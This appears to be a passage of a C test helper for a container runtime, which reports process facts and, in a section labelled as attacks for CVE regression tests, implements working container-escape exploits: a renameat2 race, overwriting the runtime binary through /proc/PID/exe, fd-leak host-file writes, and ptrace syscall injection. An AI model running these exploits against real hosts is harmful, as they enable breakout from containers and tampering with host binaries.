/*
 * payload: a static test program copied into test root filesystems.
 *
 * Build: gcc -static -O2 -o payload payload.c
 *
 * Each subcommand reports one fact about the process as the container sees
 * it, in a form that tests can compare without parsing prose: either a single
 * value or `key=value` lines, one key per line. Exit status is 0 on success,
 * 1 when the fact cannot be obtained (or the subcommand says so), 2 on a
 * usage error. Run `payload help` for the list of subcommands.
 *
 * Details tests may rely on:
 * - `try X` always exits 0 and prints `ok` or `errno=NAME` (EPERM, EACCES, ...).
 *   chown gives a new /tmp file to uid/gid 1000 (1001 when running as 1000).
 *   reboot-query asks for LINUX_REBOOT_CMD_CAD_OFF: EPERM without CAP_SYS_BOOT,
 *   EINVAL with it in a child PID namespace, ok in the host's.
 *   bind-80 falls back from 127.0.0.1 to 0.0.0.0 when lo is down.
 * - `write PATH TEXT` writes TEXT exactly, with no newline added.
 * - `signal-wait SIG [READYFILE]` creates READYFILE once SIG is blocked, so a
 *   test can wait for it before sending the signal; stdout is only `got SIGx`.
 * - `mountopts PATH` reports the topmost mount when several are stacked on PATH.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/magic.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#if defined(__x86_64__)
#include <sys/user.h>
#endif
#include <time.h>
#include <unistd.h>

extern char **environ;

static const struct {
	const char *name;
	int resource;
} rlimits[] = {
	{ "CPU", RLIMIT_CPU },           { "FSIZE", RLIMIT_FSIZE },   { "DATA", RLIMIT_DATA },
	{ "STACK", RLIMIT_STACK },       { "CORE", RLIMIT_CORE },     { "RSS", RLIMIT_RSS },
	{ "NPROC", RLIMIT_NPROC },       { "NOFILE", RLIMIT_NOFILE }, { "MEMLOCK", RLIMIT_MEMLOCK },
	{ "AS", RLIMIT_AS },             { "LOCKS", RLIMIT_LOCKS },   { "SIGPENDING", RLIMIT_SIGPENDING },
	{ "MSGQUEUE", RLIMIT_MSGQUEUE }, { "NICE", RLIMIT_NICE },     { "RTPRIO", RLIMIT_RTPRIO },
	{ "RTTIME", RLIMIT_RTTIME },
};

/* "EPERM" rather than "Operation not permitted", so tests compare names. */
static const char *errno_name(int e)
{
	const char *name = strerrorname_np(e);
	return name ? name : "unknown";
}

static int fail(const char *what, const char *obj)
{
	fprintf(stderr, "payload: %s %s: %s\n", what, obj ? obj : "", strerror(errno));
	return 1;
}

/* Copies a whole file to stdout. */
static int cat_file(const char *path)
{
	char buf[8192];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return fail("open", path);
	fflush(stdout);
	while ((n = read(fd, buf, sizeof buf)) > 0)
		if (write(STDOUT_FILENO, buf, (size_t)n) != n)
			break;
	close(fd);
	return n == 0 ? 0 : fail("read", path);
}

/* Finds "Key:\t value" in /proc/self/status; returns the value, without blanks, in out. */
static int status_field(const char *key, char *out, size_t outlen)
{
	char line[512];
	size_t klen = strlen(key);
	int found = 0;
	FILE *f = fopen("/proc/self/status", "re");
	if (!f)
		return fail("open", "/proc/self/status");
	while (!found && fgets(line, sizeof line, f)) {
		if (strncmp(line, key, klen) != 0 || line[klen] != ':')
			continue;
		char *v = line + klen + 1;
		v += strspn(v, " \t");
		v[strcspn(v, "\n")] = '\0';
		snprintf(out, outlen, "%s", v);
		found = 1;
	}
	fclose(f);
	if (!found)
		fprintf(stderr, "payload: no %s in /proc/self/status\n", key);
	return found ? 0 : 1;
}

static int print_status_field(const char *key)
{
	char v[256];
	if (status_field(key, v, sizeof v) != 0)
		return 1;
	printf("%s\n", v);
	return 0;
}

static int cmd_ids(void)
{
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);
	if (n < 0)
		return fail("getgroups", NULL);
	printf("uid=%u\ngid=%u\neuid=%u\negid=%u\ngroups=", getuid(), getgid(), geteuid(), getegid());
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", groups[i]);
	printf("\n");
	return 0;
}

static int cmd_caps(void)
{
	static const char *const keys[][2] = {
		{ "bnd", "CapBnd" }, { "eff", "CapEff" }, { "inh", "CapInh" },
		{ "prm", "CapPrm" }, { "amb", "CapAmb" },
	};
	for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
		char v[64];
		if (status_field(keys[i][1], v, sizeof v) != 0)
			return 1;
		printf("%s=%s\n", keys[i][0], v);
	}
	return 0;
}

static int cmd_rlimit(const char *name)
{
	struct rlimit rl;
	const char *key = strncmp(name, "RLIMIT_", 7) == 0 ? name + 7 : name;
	int res = -1;
	for (size_t i = 0; i < sizeof rlimits / sizeof rlimits[0]; i++)
		if (strcmp(rlimits[i].name, key) == 0)
			res = rlimits[i].resource;
	if (res < 0) {
		fprintf(stderr, "payload: unknown rlimit %s\n", name);
		return 2;
	}
	if (getrlimit(res, &rl) < 0)
		return fail("getrlimit", name);
	if (rl.rlim_cur == RLIM_INFINITY)
		printf("soft=unlimited\n");
	else
		printf("soft=%llu\n", (unsigned long long)rl.rlim_cur);
	if (rl.rlim_max == RLIM_INFINITY)
		printf("hard=unlimited\n");
	else
		printf("hard=%llu\n", (unsigned long long)rl.rlim_max);
	return 0;
}

/* Lists our own fds; the directory stream's fd is left out. */
static int cmd_fds(int links)
{
	struct dirent *de;
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return fail("opendir", "/proc/self/fd");
	while ((de = readdir(d))) {
		char target[PATH_MAX];
		ssize_t n;
		if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
			continue;
		if (!links) {
			printf("%s\n", de->d_name);
			continue;
		}
		n = readlinkat(dirfd(d), de->d_name, target, sizeof target - 1);
		target[n < 0 ? 0 : n] = '\0';
		printf("%s -> %s\n", de->d_name, target);
	}
	closedir(d);
	return 0;
}

static int cmd_hog(const char *mb_arg)
{
	long page = sysconf(_SC_PAGESIZE);
	size_t size = (size_t)strtoull(mb_arg, NULL, 10) << 20;
	char *p = malloc(size);
	if (!p)
		return fail("malloc", mb_arg);
	/* Writing one byte per page makes every page resident and charged. */
	for (size_t off = 0; off < size; off += (size_t)page)
		p[off] = 1;
	printf("ok\n");
	fflush(stdout);
	for (;;)
		pause();
}

static int try_sethostname(void)
{
	char name[HOST_NAME_MAX + 1] = "";
	/* Setting the current name again proves the permission without changing anything. */
	if (gethostname(name, sizeof name) < 0)
		return -1;
	return sethostname(name, strlen(name));
}

static int try_mknod(void)
{
	char path[64];
	snprintf(path, sizeof path, "/tmp/payload-mknod-%d", getpid());
	if (mknod(path, S_IFCHR | 0600, makedev(1, 3)) < 0)
		return -1;
	unlink(path);
	return 0;
}

static int try_chown(void)
{
	char path[64];
	int r, saved;
	snprintf(path, sizeof path, "/tmp/payload-chown-%d", getpid());
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd < 0)
		return -1;
	close(fd);
	/* Giving a file away needs CAP_CHOWN; "away" means to 1000, or 1001 for uid 1000. */
	uid_t to = geteuid() == 1000 ? 1001 : 1000;
	r = chown(path, to, to);
	saved = errno;
	unlink(path);
	errno = saved;
	return r;
}

static int try_bind80(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(80) };
	int one = 1, r, saved;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	r = bind(fd, (struct sockaddr *)&sa, sizeof sa);
	if (r < 0 && errno == EADDRNOTAVAIL) {
		/* lo is down in a bare network namespace; the privilege check is the same. */
		sa.sin_addr.s_addr = htonl(INADDR_ANY);
		r = bind(fd, (struct sockaddr *)&sa, sizeof sa);
	}
	saved = errno;
	close(fd);
	errno = saved;
	return r;
}

static int try_raw_socket(void)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0)
		return -1;
	close(fd);
	return 0;
}

static int try_mount_tmpfs(void)
{
	if (mount("payload", "/mnt", "tmpfs", 0, "size=64k") < 0)
		return -1;
	umount("/mnt");
	return 0;
}

static int cmd_try(const char *what)
{
	int r;
	if (strcmp(what, "unshare-user") == 0)
		r = unshare(CLONE_NEWUSER);
	else if (strcmp(what, "unshare-net") == 0)
		r = unshare(CLONE_NEWNET);
	else if (strcmp(what, "mount-tmpfs") == 0)
		r = try_mount_tmpfs();
	else if (strcmp(what, "sethostname") == 0)
		r = try_sethostname();
	else if (strcmp(what, "mknod") == 0)
		r = try_mknod();
	else if (strcmp(what, "chown") == 0)
		r = try_chown();
	else if (strcmp(what, "kill-1") == 0)
		r = kill(1, 0);
	else if (strcmp(what, "ptrace-traceme") == 0)
		r = (int)ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	else if (strcmp(what, "setuid0") == 0)
		r = setuid(0);
	else if (strcmp(what, "reboot-query") == 0)
		/* CAD_OFF only changes what Ctrl-Alt-Del does and needs CAP_SYS_BOOT.
		 * In a child PID namespace the kernel answers EINVAL once the capability
		 * check has passed, and EPERM when it has not. */
		r = (int)syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
				 LINUX_REBOOT_CMD_CAD_OFF, NULL);
	else if (strcmp(what, "raw-socket") == 0)
		r = try_raw_socket();
	else if (strcmp(what, "bind-80") == 0)
		r = try_bind80();
	else if (strcmp(what, "mkdir") == 0) {
		char dir[64];
		snprintf(dir, sizeof dir, "/tmp/try-mkdir-%d", getpid());
		r = mkdir(dir, 0700);
		if (r == 0)
			rmdir(dir);
	} else if (strcmp(what, "clone3") == 0)
		/* No arguments: EINVAL where clone3 runs, ENOSYS where it is missing. */
		r = (int)syscall(435, NULL, 0);
	else {
		fprintf(stderr, "payload: unknown try %s\n", what);
		return 2;
	}
	if (r < 0)
		printf("errno=%s\n", errno_name(errno));
	else
		printf("ok\n");
	return 0;
}

#if defined(__x86_64__)
#include <sys/user.h>
#include <sys/wait.h>
/* ptrace-inject PID PATH: attaches to PID, which must be blocked in a system call,
 * makes it call mkdir(PATH, 0700) and puts it back into the call it was in. Prints
 * `inject=ok` or `inject=errno=NAME` (the mkdir's result in the target), or
 * `attach=errno=NAME`. x86_64 only: the target's `syscall` instruction is reused. */
static int cmd_ptrace_inject(pid_t pid, const char *path)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0 || ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0) {
		printf("attach=errno=%s\n", errno_name(errno));
		return 0;
	}
	int st;
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st))
		return fail("waitpid", "stop");
	struct user_regs_struct saved, r;
	if (ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0)
		return fail("ptrace", "GETREGS");
	/* The path goes below the red zone of the target's stack. */
	unsigned long addr = (saved.rsp - 4096) & ~7UL;
	size_t len = strlen(path) + 1;
	for (size_t off = 0; off < len; off += sizeof(long)) {
		long word = 0;
		memcpy(&word, path + off, len - off < sizeof(long) ? len - off : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)word) < 0)
			return fail("ptrace", "POKEDATA");
	}
	r = saved;
	r.rip = saved.rip - 2; /* the `syscall` instruction the target is blocked behind */
	r.rax = SYS_mkdir;
	r.orig_rax = (unsigned long)-1; /* no restart of the interrupted call */
	r.rdi = addr;
	r.rsi = 0700;
	if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0)
		return fail("ptrace", "SETREGS");
	long result = 0;
	for (int stop = 0; stop < 2; stop++) {
		if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) < 0)
			return fail("ptrace", "SYSCALL");
		if (waitpid(pid, &st, __WALL) != pid)
			return fail("waitpid", "syscall");
		if (!WIFSTOPPED(st)) {
			printf("inject=target-died\n");
			return 0;
		}
	}
	if (ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0)
		return fail("ptrace", "GETREGS");
	result = (long)r.rax;
	/* Back into the interrupted call. */
	saved.rax = saved.orig_rax;
	saved.rip -= 2;
	saved.orig_rax = (unsigned long)-1;
	ptrace(PTRACE_SETREGS, pid, NULL, &saved);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	if (result < 0)
		printf("inject=errno=%s\n", errno_name((int)-result));
	else
		printf("inject=ok\n");
	return 0;
}
#endif

static int cmd_stat(const char *path)
{
	struct stat st;
	const char *type = "unknown";
	if (lstat(path, &st) < 0)
		return fail("stat", path);
	switch (st.st_mode & S_IFMT) {
	case S_IFREG: type = "file"; break;
	case S_IFDIR: type = "dir"; break;
	case S_IFCHR: type = "chr"; break;
	case S_IFBLK: type = "blk"; break;
	case S_IFLNK: type = "lnk"; break;
	case S_IFIFO: type = "fifo"; break;
	case S_IFSOCK: type = "sock"; break;
	default: break;
	}
	printf("mode=%04o\nuid=%u\ngid=%u\ntype=%s\nrdev=%u:%u\n", st.st_mode & 07777, st.st_uid,
	       st.st_gid, type, major(st.st_rdev), minor(st.st_rdev));
	return 0;
}

static int cmd_write(const char *path, const char *text)
{
	size_t len = strlen(text);
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return fail("open", path);
	if (write(fd, text, len) != (ssize_t)len) {
		close(fd);
		return fail("write", path);
	}
	return close(fd) < 0 ? fail("close", path) : 0;
}

/* Undoes mountinfo's octal escapes (\040 for a space, ...) in place. */
static void unescape(char *s)
{
	char *out = s;
	for (; *s; s++) {
		if (s[0] == '\\' && s[1] >= '0' && s[1] <= '3' && s[2] >= '0' && s[2] <= '7' &&
		    s[3] >= '0' && s[3] <= '7') {
			*out++ = (char)((s[1] - '0') * 64 + (s[2] - '0') * 8 + (s[3] - '0'));
			s += 3;
		} else {
			*out++ = *s;
		}
	}
	*out = '\0';
}

/* Prints the per-mount options of the mount at PATH; the last (topmost) one wins. */
static int cmd_mountopts(const char *path)
{
	char line[4096], opts[1024] = "";
	int found = 0;
	FILE *f = fopen("/proc/self/mountinfo", "re");
	if (!f)
		return fail("open", "/proc/self/mountinfo");
	while (fgets(line, sizeof line, f)) {
		/* id parent major:minor root mountpoint options ... */
		char *save = NULL, *field = strtok_r(line, " ", &save);
		for (int i = 1; field && i < 5; i++)
			field = strtok_r(NULL, " ", &save);
		if (!field)
			continue;
		unescape(field);
		if (strcmp(field, path) != 0)
			continue;
		field = strtok_r(NULL, " ", &save);
		if (field) {
			snprintf(opts, sizeof opts, "%s", field);
			found = 1;
		}
	}
	fclose(f);
	if (!found) {
		fprintf(stderr, "payload: no mount at %s\n", path);
		return 1;
	}
	printf("%s\n", opts);
	return 0;
}

static int cmd_ns(void)
{
	static const char *const types[] = { "ipc",  "mnt",  "net",  "pid",   "pid_for_children",
					     "time", "user", "uts",  "cgroup" };
	for (size_t i = 0; i < sizeof types / sizeof types[0]; i++) {
		char path[64], target[128];
		ssize_t n;
		snprintf(path, sizeof path, "/proc/self/ns/%s", types[i]);
		n = readlink(path, target, sizeof target - 1);
		if (n < 0)
			continue; /* The kernel lacks this namespace type. */
		target[n] = '\0';
		/* "net:[4026531840]" -> "4026531840" */
		char *ino = strchr(target, '[');
		ino = ino ? ino + 1 : target;
		ino[strcspn(ino, "]")] = '\0';
		printf("%s=%s\n", types[i], ino);
	}
	return 0;
}

static int cmd_tty(void)
{
	const char *name = ttyname(STDIN_FILENO);
	printf("isatty0=%d\nisatty1=%d\nisatty2=%d\nttyname=%s\n", isatty(STDIN_FILENO),
	       isatty(STDOUT_FILENO), isatty(STDERR_FILENO), name ? name : "none");
	return 0;
}

/* Accepts "TERM", "SIGTERM" or "15". */
static int parse_signal(const char *s)
{
	char *end;
	long n = strtol(s, &end, 10);
	if (*s && !*end)
		return n > 0 && n < NSIG ? (int)n : -1;
	if (strncmp(s, "SIG", 3) == 0)
		s += 3;
	for (int sig = 1; sig < NSIG; sig++) {
		const char *abbrev = sigabbrev_np(sig);
		if (abbrev && strcmp(abbrev, s) == 0)
			return sig;
	}
	return -1;
}

static void print_signal(int sig)
{
	const char *abbrev = sigabbrev_np(sig);
	if (abbrev)
		printf("got SIG%s\n", abbrev);
	else
		printf("got %d\n", sig);
}

/* Waits for SIG. The signal is blocked first, so it is never lost to the default
 * action (or ignored, as PID 1); READYFILE, if given, is created once it is blocked. */
static int cmd_signal_wait(const char *name, const char *ready)
{
	sigset_t set;
	int sig = parse_signal(name);
	if (sig <= 0 || sig == SIGKILL || sig == SIGSTOP) {
		fprintf(stderr, "payload: cannot wait for signal %s\n", name);
		return 2;
	}
	sigemptyset(&set);
	sigaddset(&set, sig);
	if (sigprocmask(SIG_BLOCK, &set, NULL) < 0)
		return fail("sigprocmask", name);
	if (ready) {
		int fd = open(ready, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (fd < 0)
			return fail("open", ready);
		close(fd);
	}
	for (;;) {
		int got = sigwaitinfo(&set, NULL);
		if (got == sig) {
			print_signal(got);
			return 0;
		}
		if (got < 0 && errno != EINTR)
			return fail("sigwaitinfo", name);
	}
}

static int cmd_sleep(const char *arg)
{
	if (strcmp(arg, "forever") == 0 || strcmp(arg, "infinity") == 0)
		for (;;)
			pause();
	double secs = strtod(arg, NULL);
	struct timespec ts = { .tv_sec = (time_t)secs,
			       .tv_nsec = (long)((secs - (double)(time_t)secs) * 1e9) };
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
	return 0;
}

/* ---- attacks for tests/integration/runtime-cve.bats ---------------------------- */

static double now_seconds(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* `exchange-race DIR LINK...`: swaps DIR with each LINK (renameat2 RENAME_EXCHANGE),
 * twice in a row so that DIR is a directory again before the next pair, forever
 * (CVE-2021-30465). */
static int cmd_exchange_race(int n, char **links, const char *dir)
{
	for (;;)
		for (int i = 0; i < n; i++)
			for (int k = 0; k < 2; k++)
				if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, links[i], 2 /* RENAME_EXCHANGE */) < 0 &&
				    errno != ENOENT)
					return fail("renameat2", links[i]);
}

/* The command line of PID, NULs turned into blanks; "" when it is gone. */
static void read_cmdline(int pid, char *out, size_t len)
{
	char path[64];
	ssize_t n;
	int fd;
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	out[0] = '\0';
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, out, len - 1);
	close(fd);
	if (n < 0)
		n = 0;
	out[n] = '\0';
	for (ssize_t i = 0; i + 1 < n; i++)
		if (out[i] == '\0')
			out[i] = ' ';
}

static int is_pid_name(const char *s)
{
	if (!*s)
		return 0;
	for (; *s; s++)
		if (*s < '0' || *s > '9')
			return 0;
	return 1;
}

/* What the attacker holds (EXEFD, an O_PATH fd of /proc/PID/exe): `exe=` its name,
 * `nlink=` its link count, and `seals=` its memfd seals in hex (or errno=NAME where it is
 * no memfd). A sealed copy of the runtime reads /memfd:..., nlink=0, seals with
 * F_SEAL_WRITE (0x8). */
static void describe_exe(int exefd)
{
	char path[64], target[PATH_MAX];
	struct stat st;
	snprintf(path, sizeof path, "/proc/self/fd/%d", exefd);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 0] = '\0';
	printf("exe=%s\n", target);
	if (fstat(exefd, &st) == 0)
		printf("nlink=%lu\n", (unsigned long)st.st_nlink);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int seals = fd < 0 ? -1 : fcntl(fd, F_GET_SEALS);
	if (seals < 0)
		printf("seals=errno=%s\n", errno_name(errno));
	else
		printf("seals=0x%x\n", seals);
	if (fd >= 0)
		close(fd);
	fflush(stdout);
}

/*
 * `exe-attack FIFO SECONDS` (CVE-2019-5736): makes FIFO, then watches /proc for a
 * process whose executable is not on the container's root filesystem (the runtime's
 * binary, reached through a /proc/self/exe planted in the rootfs and blocked opening
 * FIFO, e.g. /etc/ld.so.preload), keeps /proc/PID/exe open with O_PATH, releases the
 * FIFO, and once the process is gone reopens the binary for writing and writes a
 * marker at offset 0.
 * Prints found=0|1, what it found (describe_exe), then write=ok or write=errno=NAME.
 */
static int cmd_exe_attack(const char *fifo, const char *secs)
{
	struct stat root, st;
	double deadline = now_seconds() + strtod(secs, NULL);
	int exefd = -1, pid = -1, rd = -1;
	char path[64];
	if (stat("/", &root) < 0)
		return fail("stat", "/");
	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST)
		return fail("mkfifo", fifo);
	/* The newest pids of our pid namespace are polled in a tight loop (the runtime's
	 * binary may run for less than a millisecond); /proc is listed now and then too. */
	int lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	for (unsigned long iter = 0; exefd < 0 && now_seconds() < deadline; iter++) {
		int cand[64], ncand = 0;
		char buf[32];
		ssize_t n = lastfd >= 0 ? pread(lastfd, buf, sizeof buf - 1, 0) : -1;
		if (n > 0) {
			buf[n] = '\0';
			for (int p = atoi(buf); p > 1 && ncand < 4; p--)
				cand[ncand++] = p;
		}
		if (iter % 256 == 0) {
			DIR *d = opendir("/proc");
			struct dirent *de;
			while (d && (de = readdir(d)) && ncand < 64)
				if (is_pid_name(de->d_name))
					cand[ncand++] = atoi(de->d_name);
			if (d)
				closedir(d);
		}
		for (int i = 0; i < ncand && exefd < 0; i++) {
			if (cand[i] == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", cand[i]);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && st.st_dev != root.st_dev) {
				exefd = fd;
				pid = cand[i];
			} else {
				close(fd);
			}
		}
	}
	if (lastfd >= 0)
		close(lastfd);
	printf("found=%d\n", exefd >= 0);
	fflush(stdout);
	if (exefd < 0)
		return 0;
	describe_exe(exefd);
	/* Let the blocked process go on and exit: its binary is busy until then. A reader
	 * blocked opening FIFO (the loader reading /etc/ld.so.preload) is released by a
	 * writer that goes away at once, a blocked writer (a log file) by a reader. This is
	 * repeated until it is gone: it may have been caught before it reached the FIFO. */
	rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	snprintf(path, sizeof path, "/proc/%d", pid);
	while (access(path, F_OK) == 0 && now_seconds() < deadline) {
		char buf[4096];
		int wr = open(fifo, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		if (wr >= 0)
			close(wr);
		if (rd >= 0)
			while (read(rd, buf, sizeof buf) > 0)
				;
		usleep(1000);
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", exefd);
	int wfd = -1, err = 0;
	do {
		wfd = open(path, O_WRONLY | O_CLOEXEC);
		err = errno;
		if (wfd < 0 && err == ETXTBSY)
			usleep(1000);
	} while (wfd < 0 && err == ETXTBSY && now_seconds() < deadline);
	if (wfd >= 0) {
		static const char marker[] = "HULL-CVE-2019-5736";
		if (pwrite(wfd, marker, sizeof marker - 1, 0) == (ssize_t)(sizeof marker - 1))
			printf("write=ok\n");
		else
			printf("write=errno=%s\n", errno_name(errno));
		close(wfd);
	} else {
		printf("write=errno=%s\n", errno_name(err));
	}
	if (rd >= 0)
		close(rd);
	return 0;
}

/* The distinct `fd=N TARGET kind=KIND` findings of proc-spy, with how often each was seen. */
static struct {
	char what[PATH_MAX + 16];
	const char *kind;
	int count;
} fd_notes[64];
static int nfd_notes;

static void note_fd(const char *fd, const char *target, const char *kind)
{
	char what[sizeof fd_notes[0].what];
	snprintf(what, sizeof what, "%s %s", fd, target);
	for (int i = 0; i < nfd_notes; i++)
		if (strcmp(fd_notes[i].what, what) == 0 && fd_notes[i].kind == kind) {
			fd_notes[i].count++;
			return;
		}
	if (nfd_notes == 64)
		return;
	snprintf(fd_notes[nfd_notes].what, sizeof what, "%s", what);
	fd_notes[nfd_notes].kind = kind;
	fd_notes[nfd_notes++].count = 1;
}

static int same_file(int fd, const struct stat *st)
{
	struct stat fst;
	return fstat(fd, &fst) == 0 && fst.st_dev == st->st_dev && fst.st_ino == st->st_ino;
}

/* Appends to FILE beneath DIRFD; 1 when that worked. */
static int append_at(int dirfd, const char *file)
{
	int w = openat(dirfd, file, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (w < 0)
		return 0;
	int ok = write(w, "escaped\n", 8) == 8;
	close(w);
	return ok;
}

/*
 * Classifies fd NAME of a process (FDDIR is its /proc/PID/fd) whose link reads TARGET, as
 * seen from the container whose root is ROOT: "container-root" (our own root),
 * "container-proc" (a procfs whose pid 1 has our root: the container's pid namespace),
 * "container-proc-file" (a file of our /proc), "host-proc" (any other procfs: its pid 1's
 * root is outside), "host-dir" or "host-file".
 * Through a host one, it tries to append to HOSTFILE (an absolute host path): beneath the
 * directory, or beneath the procfs's 1/root. Returns 1 if HOSTFILE was written.
 */
static int spy_fd(int fddir, const char *name, const char *target, const struct stat *root,
		  const char *hostfile, const char **kind)
{
	struct statfs sfs;
	struct stat st;
	char rel[PATH_MAX + 16];
	int escaped = 0, fd = openat(fddir, name, O_PATH | O_CLOEXEC);
	*kind = "gone";
	if (fd < 0 || fstat(fd, &st) < 0 || fstatfs(fd, &sfs) < 0) {
		if (fd >= 0)
			close(fd);
		return 0;
	}
	if (sfs.f_type == PROC_SUPER_MAGIC && S_ISDIR(st.st_mode)) {
		int init_root = openat(fd, "1/root", O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (init_root >= 0 && same_file(init_root, root)) {
			*kind = "container-proc";
		} else {
			/* Any process of that procfs whose root is the host's will do (pid 1
			 * may be out of reach): the runtime's own parent, a shell... */
			*kind = "host-proc";
			int dfd = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			DIR *d = dfd < 0 ? NULL : fdopendir(dfd);
			struct dirent *de;
			while (d && !escaped && (de = readdir(d)))
				if (is_pid_name(de->d_name)) {
					snprintf(rel, sizeof rel, "%s/root%s", de->d_name, hostfile);
					escaped = append_at(fd, rel);
				}
			if (d)
				closedir(d);
			else if (dfd >= 0)
				close(dfd);
		}
		if (init_root >= 0)
			close(init_root);
	} else if (S_ISDIR(st.st_mode)) {
		size_t tl = strlen(target);
		if (same_file(fd, root)) {
			*kind = "container-root";
		} else {
			*kind = "host-dir";
			/* HOSTFILE below the directory, as the host names it. */
			if (strcmp(target, "/") == 0)
				escaped = append_at(fd, hostfile + 1);
			else if (strncmp(hostfile, target, tl) == 0 && hostfile[tl] == '/')
				escaped = append_at(fd, hostfile + tl + 1);
		}
	} else {
		/* A file of the container's own /proc (e.g. a sysctl libcap reads). */
		struct stat proc;
		*kind = sfs.f_type == PROC_SUPER_MAGIC && stat("/proc", &proc) == 0 && proc.st_dev == st.st_dev
				? "container-proc-file"
				: "host-file";
	}
	close(fd);
	return escaped;
}

/*
 * `proc-spy NAME SECONDS HOSTFILE` (CVE-2016-9962): for SECONDS, watches /proc for
 * processes whose command line contains NAME (the runtime's process joining the
 * container). For each, tries to open /proc/PID/exe (refused when it is non-dumpable);
 * when that works and the executable is still the runtime's (not on our root
 * filesystem), reads its fd links and tries to append to HOSTFILE through
 * /proc/PID/root and /proc/PID/cwd.
 * Every fd >= 3 of a caught process whose target is a path is classified by spy_fd()
 * (and used to reach HOSTFILE where it leads outside the container).
 * Prints seen= (runtime processes seen), protected= (exe refused), caught= (exe of the
 * runtime opened), escaped= (HOSTFILE written), and one `fd=N TARGET kind=KIND count=C`
 * line per distinct fd, target and kind seen in caught processes.
 */
static int cmd_proc_spy(const char *name, const char *secs, const char *hostfile)
{
	struct stat root, st;
	double deadline = now_seconds() + strtod(secs, NULL);
	int seen = 0, protected = 0, caught = 0, escaped = 0;
	static int done[1 << 16], counted[1 << 16];
	char cmdline[4096], path[PATH_MAX + 64];
	if (stat("/", &root) < 0)
		return fail("stat", "/");
	while (now_seconds() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		if (!d)
			return fail("opendir", "/proc");
		while ((de = readdir(d))) {
			if (!is_pid_name(de->d_name))
				continue;
			int pid = atoi(de->d_name);
			if (pid == getpid() || pid == 1 || pid >= (1 << 16) || done[pid])
				continue;
			read_cmdline(pid, cmdline, sizeof cmdline);
			if (!strstr(cmdline, name)) {
				done[pid] = 1; /* a container process, or already exec'd */
				continue;
			}
			if (!counted[pid]) {
				counted[pid] = 1;
				seen++;
			}
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				if (errno == EACCES || errno == EPERM)
					protected++;
				continue;
			}
			int runtime = fstat(fd, &st) == 0 && st.st_dev != root.st_dev;
			close(fd);
			if (!runtime)
				continue;
			caught++;
			done[pid] = 1;
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			DIR *fds = opendir(path);
			struct dirent *fe;
			while (fds && (fe = readdir(fds))) {
				char target[PATH_MAX];
				ssize_t n = readlinkat(dirfd(fds), fe->d_name, target, sizeof target - 1);
				if (n <= 0 || !is_pid_name(fe->d_name) || atoi(fe->d_name) < 3)
					continue;
				target[n] = '\0';
				if (target[0] != '/')
					continue;
				const char *kind = "";
